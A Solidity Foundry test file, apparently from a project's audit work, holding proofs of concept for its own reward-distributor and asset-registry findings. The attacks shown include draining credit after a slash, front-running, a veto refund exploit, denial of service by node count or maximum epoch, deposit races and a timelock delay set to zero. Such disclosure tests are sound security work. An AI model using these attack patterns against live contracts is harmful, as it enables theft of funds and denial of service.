// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {TimelockController} from "@openzeppelin/contracts/governance/TimelockController.sol";

import {Fixture} from "./utils/Fixture.sol";
import {StandardMerkle} from "./utils/StandardMerkle.sol";
import {IAssetRegistry} from "../interfaces/IAssetRegistry.sol";
import {IRewardDistributor} from "../interfaces/IRewardDistributor.sol";

/// @notice Issue 21's attacker proofs of concept against the v2 contracts: each test passes when the attack works.
contract FindingsV2PoCTest is Fixture {
    bytes32 private constant MODEL = keccak256("model");

    function _one(address a) private pure returns (address[] memory r) {
        r = new address[](1);
        r[0] = a;
    }

    function _one(uint256 a) private pure returns (uint256[] memory r) {
        r = new uint256[](1);
        r[0] = a;
    }

    function _root(uint256 amount) private view returns (bytes32) {
        bytes32[] memory leaves = new bytes32[](2);
        leaves[0] = distributor.claimLeaf(alice, amount);
        leaves[1] = distributor.claimLeaf(bob, 0);
        return StandardMerkle.build(leaves)[0];
    }

    /// N1: a slash to zero makes the node "exited" at once; it withdraws its credit before its batch is debited.
    function test_PoC_N1_SlashToZeroReleasesCredit() public {
        _bond(nodeA, MIN_BOND);
        _post(nodeA, 0, 10, keccak256("r"));
        _deposit(nodeA, 1000);
        vm.prank(governance);
        nodes.slash(nodeA, MIN_BOND, treasury);
        vm.prank(nodeA);
        vm.assertEq(distributor.withdrawFeeCredit(nodeA), 1000, "credit owed for the batch is gone");
    }

    /// N1: an exited node's withdrawal front-runs the proposal that debits its last batch: the proposal reverts.
    function test_PoC_N1_WithdrawFrontRunsProposal() public {
        _bond(nodeA, MIN_BOND);
        _post(nodeA, 0, 10, keccak256("r"));
        _deposit(nodeA, 1000);
        vm.startPrank(nodeA);
        nodes.requestUnbond(MIN_BOND);
        vm.warp(block.timestamp + UNBONDING_DELAY);
        nodes.withdraw();
        distributor.withdrawFeeCredit(nodeA);
        vm.stopPrank();
        bytes32 root = _root(800);
        vm.prank(poster);
        vm.expectRevert(abi.encodeWithSelector(IRewardDistributor.DistributorInsufficientCredit.selector, nodeA, 800, 0));
        distributor.proposeRoot(1, root, 800, "", _one(nodeA), _one(800));
    }

    /// N1: a veto that lands after the exit hands the reserved debit back to the node, which takes it.
    function test_PoC_N1_VetoAfterExitReturnsDebit() public {
        _bond(nodeA, MIN_BOND);
        _post(nodeA, 0, 10, keccak256("r"));
        _deposit(nodeA, 1000);
        bytes32 root = _root(800);
        vm.prank(poster);
        distributor.proposeRoot(1, root, 800, "", _one(nodeA), _one(800));
        vm.prank(governance);
        nodes.slash(nodeA, MIN_BOND, treasury);
        vm.prank(guardian);
        distributor.vetoRoot(1);
        vm.prank(nodeA);
        vm.assertEq(distributor.withdrawFeeCredit(nodeA), 1000, "the owed 800 left with the node");
    }

    /// N2: 257 paying nodes make every proposal impossible.
    function test_PoC_N2_TooManyNodesStopsRewards() public {
        address[] memory ns = new address[](257);
        uint256[] memory ds = new uint256[](257);
        for (uint256 i; i < 257; ++i) {
            ns[i] = address(uint160(0x1000 + i));
            _deposit(ns[i], 1);
            ds[i] = 1;
        }
        bytes32 root = _root(257);
        vm.prank(poster);
        vm.expectRevert(abi.encodeWithSelector(IRewardDistributor.DistributorTooManyNodes.selector, 257, 256));
        distributor.proposeRoot(1, root, 257, "", ns, ds);
    }

    /// N3: one proposal at epoch 2^64-1 (even vetoed) forces every later one there; once it passes, nothing more.
    function test_PoC_N3_MaxEpochBricks() public {
        bytes32 root = _root(0);
        vm.startPrank(poster);
        distributor.proposeRoot(type(uint64).max, root, 0, "", new address[](0), new uint256[](0));
        vm.warp(block.timestamp + WINDOW);
        vm.expectRevert(
            abi.encodeWithSelector(
                IRewardDistributor.DistributorEpochNotIncreasing.selector, type(uint64).max, type(uint64).max
            )
        );
        distributor.proposeRoot(type(uint64).max, root, 0, "", new address[](0), new uint256[](0));
        vm.stopPrank();
    }

    /// N4: a 1-wei deposit between the poster's read and its proposal changes the credit the rule uses.
    function test_PoC_N4_DepositChangesProposal() public {
        _deposit(nodeA, 500);
        uint256 readByPoster = distributor.feeCredit(nodeA);
        vm.roll(block.number + 1);
        _deposit(nodeA, 1);
        vm.assertTrue(distributor.feeCredit(nodeA) != readByPoster, "the credit the rule reads moved");
    }

    /// N5: governance slashes any node's stake (no proof needed), and a timelock's delay can be set to 0.
    function test_PoC_N5_GovernanceSlashesAndUndelays() public {
        _bond(nodeA, MIN_BOND);
        vm.prank(governance);
        nodes.slash(nodeA, MIN_BOND, governance);
        vm.assertEq(token.balanceOf(governance), MIN_BOND);
        address[] memory gov = _one(governance);
        TimelockController tl = new TimelockController(2 days, gov, gov, address(0));
        bytes memory call = abi.encodeCall(TimelockController.updateDelay, (0));
        vm.startPrank(governance);
        tl.schedule(address(tl), 0, call, bytes32(0), bytes32(0), 2 days);
        vm.warp(block.timestamp + 2 days);
        tl.execute(address(tl), 0, call, bytes32(0), bytes32(0));
        vm.stopPrank();
        vm.assertEq(tl.getMinDelay(), 0, "the delay is gone");
    }

    /// N9: the seller schedules a hostile re-pointing before the buyer accepts; it survives the transfer.
    function test_PoC_N9_PendingChangeSurvivesTransfer() public {
        assets.registerBaseModel(MODEL, "");
        vm.startPrank(alice);
        bytes32 id = assets.registerAdapter(keccak256("files"), MODEL, new bytes32[](0), new uint16[](0), 1, "");
        assets.transferAssetOwnership(IAssetRegistry.AssetKind.Adapter, id, bob);
        assets.schedulePrice(id, MAX_PRICE);
        vm.stopPrank();
        vm.prank(bob);
        assets.acceptAssetOwnership(IAssetRegistry.AssetKind.Adapter, id);
        vm.warp(block.timestamp + CHANGE_DELAY);
        vm.assertEq(assets.adapter(id).pricePerMTokens, MAX_PRICE, "the seller's price reached the buyer");
    }
}
